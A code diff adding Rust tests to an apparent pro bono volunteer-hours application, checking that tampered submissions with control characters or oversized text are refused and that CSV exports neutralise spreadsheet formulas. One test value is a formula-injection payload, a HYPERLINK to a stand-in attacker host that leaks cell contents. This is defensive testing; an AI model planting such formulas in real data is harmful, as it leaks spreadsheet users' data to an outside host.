@@ -223,3 +223,53 @@ fn a_tampered_or_misaddressed_submission_is_refused() {
     assert!(import(&mut coord, &tampered, &SubmissionOptions::default()).is_err());
     assert!(vol.submit_hours("psharma@example.org", spring(), "not-a-key").is_err());
 }
+
+/// Plants `activity` on every entry of the volunteer's vault behind the store's back, the
+/// way a modified program (or a hand-made file signed with the volunteer's key) could.
+fn plant_activity(store: &Store, activity: &str) {
+    let n = store.conn().execute("UPDATE time_entry SET activity = ?1", [activity]).expect("plant");
+    assert!(n > 0, "the planted text reached no entry");
+}
+
+#[test]
+fn submitted_text_is_checked_like_typed_text_and_nothing_is_written_when_it_fails() {
+    let (_c, coordinator) = new_vault();
+    let mut coord = coordinator.store;
+    matter(&mut coord, "JC-1");
+    let program_key = coord.program_key().expect("program key");
+    let (_v, vol) = new_vault();
+    let mut vol = vol.store;
+    matter(&mut vol, "JC-1");
+    volunteer(&mut vol);
+    log(&mut vol, "JC-1", "2026-03-02", "1");
+    let fp = vol.signing_fingerprint().expect("fingerprint");
+    let accept = SubmissionOptions { accept_fingerprint: Some(fp), ..Default::default() };
+    let entries =
+        |s: &Store| -> i64 { s.conn().query_row("SELECT count(*) FROM time_entry", [], |r| r.get(0)).expect("count") };
+
+    for (bad, why) in [("Call\u{0007}client", "control characters"), (&*"x".repeat(100_001), "at most")] {
+        plant_activity(&vol, bad);
+        let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
+        let err = import(&mut coord, &file, &accept).expect_err("bad activity refused");
+        let text = err.to_string();
+        assert!(text.contains("record 1") && text.contains("activity") && text.contains(why), "{text}");
+        assert!(!text.contains("Call"), "the refused text is not echoed: {text}");
+        assert_eq!(entries(&coord), 0, "nothing written");
+    }
+
+    // A formula is ordinary text to the vault; it is neutralised where it leaves as CSV.
+    plant_activity(&vol, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
+    assert_eq!(imported(import(&mut coord, &file, &accept)).created, 1);
+    let out = tempfile::tempdir().expect("out");
+    coord
+        .export_records(
+            out.path(),
+            probono_core::exchange::ExportFormat::Csv,
+            &probono_core::task::TaskContext::silent(),
+        )
+        .expect("export");
+    let csv = std::fs::read_to_string(out.path().join("time_entries.csv")).expect("csv");
+    assert!(csv.contains(",\"'=HYPERLINK("), "the formula is quoted: {csv}");
+    assert!(!csv.contains(",=HYPERLINK(") && !csv.contains(",\"=HYPERLINK("), "{csv}");
+}
